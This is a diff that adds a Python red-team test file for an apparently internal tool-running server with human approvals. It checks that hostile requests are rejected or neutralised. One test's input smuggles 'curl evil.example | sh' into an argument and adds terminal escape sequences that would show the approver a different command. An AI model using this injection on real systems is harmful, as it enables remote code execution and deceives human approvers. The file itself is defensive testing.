@@ -1,0 +1,139 @@
+"""Approvals and jobs attacked as hostile callers would (issue 35, red team): each test drives a real
+`toolrun serve` with real API keys and asserts what the hostile caller must not get.
+
+Persons: API-key alice (ops: she calls), bob (oncall: he approves), admin1 (admin)."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from support.jobs import JobUsers
+from support.servers import Processes, ToolrunServer, toolrun_cli
+
+pytestmark = [pytest.mark.serial, pytest.mark.timeout(240)]
+
+CATALOG = """\
+group: ops
+tools:
+  - name: wipe
+    description: Wipe a target.
+    exec: echo wiped {{ target | quote }}
+    params:
+      - {name: target, type: str}
+    approval: required
+    approvers: [oncall]
+  - name: unlock
+    description: Unlock a door with a PIN.
+    exec: echo unlocking {{ door | quote }}
+    params:
+      - {name: door, type: str}
+      - {name: pin, type: str, secret: true}
+    approval: required
+    approvers: [oncall]
+  - name: act
+    description: An fn tool that needs approval.
+    fn: rtmod:act
+    approval: required
+    approvers: [oncall]
+"""
+MODULE = 'def act(target: str) -> str:\n    return "{word} " + target\n'
+USERS = {"alice": ["ops"], "bob": ["oncall"], "admin1": ["admin"]}
+
+
+@dataclass
+class World:
+    server: ToolrunServer
+    users: JobUsers
+    audit: Path
+    base: Path
+
+    def ask(self, who: str, tool: str, target: str) -> str:
+        answer = self.users.req(who, "POST", f"/tools/ops.{tool}", {"target": target})
+        assert answer.status_code == 202, answer.text
+        return str(answer.json()["job"])
+
+    def audit_lines(self, job: str) -> list[dict[str, Any]]:
+        lines = [json.loads(x) for x in self.audit.read_text(encoding="utf-8").splitlines() if x.strip()]
+        return [x for x in lines if x.get("job") == job and "event" in x]
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+    base = tmp_path_factory.mktemp("redteam")
+    (base / "tools.yaml").write_text(CATALOG, encoding="utf-8")
+    (base / "rtmod.py").write_text(MODULE.format(word="harmless"), encoding="utf-8")
+    audit = base / "audit.log"
+    with Processes() as procs:
+        settings = {"SVC_AUDIT_LOG": str(audit), "SVC_WORKERS": 1}
+        server = procs.add(ToolrunServer(base / "srv", base / "tools.yaml", settings))
+        users = procs.enter_context(JobUsers(server, USERS))
+        server.start()
+        yield World(server, users, audit, base)
+
+
+# -- odd text from a requester: a reason, arguments on an approver's terminal -----------------------------------------
+
+
+@pytest.mark.parametrize(
+    "reason",
+    ["\x1b]0;owned\x07\x1b[2J", "nul\x00byte", "\ud800", "x" * 5000],
+    ids=["escape-sequence", "nul", "lone-surrogate", "huge"],
+)
+def test_a_withdrawal_reason_is_checked_like_any_reason(world: World, reason: str) -> None:
+    """`POST /jobs/{id}/withdraw` takes a reason as cancel does: an escape sequence in it would reach every
+    approver's terminal (`toolrun jobs show`), a lone surrogate every view and the audit trail."""
+    job = world.ask("alice", "wipe", f"odd-{len(reason)}-{ord(reason[0])}")
+    body = '{"reason": ' + json.dumps(reason) + "}"  # json.dumps keeps a lone surrogate as \\ud800
+    answer = world.users.client.post(
+        f"{world.server.url}/jobs/{job}/withdraw",
+        headers={"X-API-Key": world.users.keys["alice"], "Content-Type": "application/json"},
+        content=body,
+    )
+    assert answer.status_code == 400, answer.text
+    assert "reason" in answer.json()["error"], answer.text
+    view = world.users.view("bob", job).json()
+    assert view["status"] == "awaiting_approval", view  # nothing stored: it still awaits its decision
+    for line in world.audit_lines(job):
+        assert "\x1b" not in json.dumps(line, ensure_ascii=False), line
+
+
+def test_an_argument_cannot_rewrite_the_command_an_approver_reads_on_a_terminal(world: World) -> None:
+    """`toolrun jobs show` prints the command exactly as it will run. A requester's argument holding a terminal
+    escape (erase the line, return, write a harmless command; or the one-byte CSI U+009B) would show the approver
+    another command than the one approving runs: control characters are shown, never sent to the terminal."""
+    spoof = "db1'; curl evil.example | sh; echo '\x1b[2K\r\x9b2Kcommand: echo wiped db1\u202e1bd"
+    job = world.ask("alice", "wipe", spoof)
+    remote = ["--url", world.server.url, "--api-key", world.users.keys["bob"]]
+    shown = toolrun_cli(*remote, "jobs", "show", job, env=world.server.env)
+    assert shown.returncode == 0, shown.stderr
+    assert "evil.example" in shown.stdout, shown.stdout
+    for bad in ("\x1b", "\x9b", "\r", "\u202e"):
+        assert bad not in shown.stdout, repr(shown.stdout)
+    assert "\\x1b" in shown.stdout or "\\u001b" in shown.stdout, shown.stdout  # shown, as an escape
+    listed = toolrun_cli(*remote, "jobs", "list", env=world.server.env)
+    assert listed.returncode == 0 and "\x1b" not in listed.stdout, repr(listed.stdout)
+    assert world.users.cancel("alice", job).status_code == 200
+
+
+# -- secrets after the job --------------------------------------------------------------------------------------------
+
+
+def test_a_secret_argument_is_gone_from_every_state_file_once_the_job_ended(world: World) -> None:
+    answer = world.users.req("alice", "POST", "/tools/ops.unlock", {"door": "vault", "pin": "Zq7xK-9pin"})
+    assert answer.status_code == 202, answer.text
+    job = answer.json()["job"]
+    assert world.users.deny("bob", job, "no").status_code == 200
+
+    def clean() -> bool:
+        files = [p for p in world.server.home.rglob("*") if p.is_file()]
+        return bool(files) and not any(b"Zq7xK-9pin" in p.read_bytes() for p in files)
+
+    from support.servers import wait_until
+
+    wait_until(clean, 15, "the secret argument gone from the state files", interval=0.5)
